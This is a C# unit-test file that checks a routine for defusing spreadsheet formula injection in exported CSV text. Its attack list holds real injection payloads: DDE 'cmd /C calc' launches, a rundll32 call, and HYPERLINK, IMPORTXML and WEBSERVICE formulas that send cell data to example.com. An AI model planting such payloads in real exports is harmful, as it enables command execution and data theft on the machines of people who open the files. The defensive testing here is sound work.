using System.Globalization;
using System.Text;
using Etl.Landing.Exports.Writing;

namespace Etl.Landing.Tests.Exports;

/// <summary>Text that spreadsheets run is made harmless, and only such text is changed.</summary>
public sealed class FormulaTests
{
    /// <summary>Attacks on spreadsheets as they are published, and variations of them.</summary>
    public static TheoryData<string> Attacks() =>
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")", "=IMPORTXML(CONCAT(\"http://example.com/?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
        "=WEBSERVICE(\"http://example.com/\"&A1)", "=IMPORTDATA(\"http://example.com\")", "=10+20+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "\t=1+1", "\r=1+1", "\n=1+1", "\tharmless?", "\rharmless?", "\nharmless?", " =1+1", "   +cmd|'/C calc'!A0", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1", "\u202E=1+1", "\0=1+1", "\u0001=1+1", "\v=1+1",
        "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1)", " ＝1+1", "=", "+", "-", "@", "-5", "+5", "-1,5", "=\"\"", "\"=1+1\"", "\"\"\"=1+1", "%0A-2+3+cmd|' /C calc'!D2"[3..],
        "x;=1+1", "x;+cmd|' /C calc'!A0", "x\t=1+1", "x\n=1+1", "x\r\n@SUM(1)", "x\r-1+1", "x; \"=1+1", "x;\u200B＝1", ";=1", "a;b;c;=cmd|' /C calc'!A0;d",
        "+49 30 1234567 =1+1", "+1;=1+1", "+1(cmd)5551234", "+4930123456789012345", "+1", "+12 34 5", "+49--30-1234567", "+4930123456|7", "+49 30 1234567!A0", "+=1234567",
    ];

    /// <summary>Text that people have in their lists.</summary>
    public static TheoryData<string> Harmless() =>
    [
        "", "Ann", "O'Neill", "'quoted'", "ann@example.com", "a=b", "1-2", "5", "5 % off", "C++", "Müller-Lüdenscheidt", "山田 太郎", "https://example.com/?a=b&c=-1", "x, =1", "\"so\", he said", "a;b", "a\nb",
        "+49 30 1234567", "+4930123456", "+1 (555) 123-4567", "+44.20.7946.0000", "+972 52/1234567", "+1-555-123-4567", "+358 (0)9 1234567", "😀", "|x", "%x", "!x", "#REF!", "_-_", "(=1)", "x =1", "x  -1",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_begins_no_cell_for_any_reader(string text)
    {
        var safe = Formula.Defuse(text, ',', isPhone: false);
        Assert.NotEqual(text, safe);
        Assert.All(Cells(safe), cell => Assert.False(Runs(cell), $"'{cell}' of '{safe}' runs."));
        // Nothing but apostrophes came in.
        Assert.Equal(text.Replace("'", "", StringComparison.Ordinal), safe.Replace("'", "", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Harmless))]
    public void Harmless_text_stays_as_it_is(string text) => Assert.Same(text, Formula.Defuse(text, ',', isPhone: false));

    [Theory]
    [InlineData("=1", "'=1")]
    [InlineData("x;=1;y", "x;'=1;y")]
    [InlineData("=1;=2\n=3", "'=1;'=2\n'=3")]
    [InlineData("- one\n- two", "'- one\n'- two")]
    [InlineData("\t=1", "'\t'=1")]
    [InlineData(" =1", " '=1")]
    public void Apostrophe_stands_right_before_what_would_run(string text, string safe) => Assert.Equal(safe, Formula.Defuse(text, ',', isPhone: false));

    [Theory]
    [InlineData(';', "x,=1", "x,'=1")]
    [InlineData('\t', "x,=1", "x,'=1")]
    [InlineData(',', "x,=1", "x,=1")]
    public void Comma_begins_a_cell_for_others_only_where_it_is_not_ours(char delimiter, string text, string safe) => Assert.Equal(safe, Formula.Defuse(text, delimiter, isPhone: false));

    [Theory]
    [InlineData("+1 555 123 4567 x12", true)]
    [InlineData("+1 555 123 4567 ext. 12", true)]
    [InlineData("+15551234567x1", true)]
    [InlineData("+49 30 1234567", true)]
    [InlineData("=1+1", false)]
    [InlineData("+cmd|' /C calc'!A0", false)]
    [InlineData("+1x1", false)]
    [InlineData("-49 30 1234567", false)]
    [InlineData("+1 555 123 4567 x12 =1", false)]
    public void Column_of_phone_numbers_takes_extensions_and_no_formulas(string text, bool isNumber)
    {
        Assert.Equal(isNumber, ReferenceEquals(text, Formula.Defuse(text, ',', isPhone: true)));
    }

    [Fact]
    public void Any_text_of_dangerous_signs_is_harmless_afterwards()
    {
        const string signs = "=+-@＝＋－＠;,\t\r\n \"'a1|!(\u200B\u00A0";
        var random = new Random(20261121);
        for (var round = 0; round < 200_000; round++)
        {
            var text = new StringBuilder();
            for (var length = random.Next(1, 9); length > 0; length--) text.Append(signs[random.Next(signs.Length)]);
            var safe = Formula.Defuse(text.ToString(), ',', isPhone: false);
            Assert.True(Cells(safe).All(c => !Runs(c)), $"'{Escaped(text.ToString())}' became '{Escaped(safe)}'.");
            Assert.Equal(safe, Formula.Defuse(safe, ',', isPhone: false));
        }
    }

    // Cells as a reader sees them that ends one at ';', a tab or a line, whatever quotes are around.
    private static IEnumerable<string> Cells(string text) => text.Split(';', '\t', '\r', '\n');

    // Written from what spreadsheets do and not from the code: quotes and what cannot be seen are left out, then the first sign decides. A number is fine.
    private static bool Runs(string cell)
    {
        var seen = cell.SkipWhile(c => c is '"' || char.IsWhiteSpace(c) || CharUnicodeInfo.GetUnicodeCategory(c) is UnicodeCategory.Format or UnicodeCategory.Control).ToArray();
        return seen.Length > 0 && "=+-@＝＋－＠﹦﹢﹣﹫".Contains(seen[0], StringComparison.Ordinal);
    }

    private static string Escaped(string text) => string.Concat(text.Select(c => c < 0x20 || c > 0x7E ? $"\\u{(int)c:x4}" : c.ToString()));
}
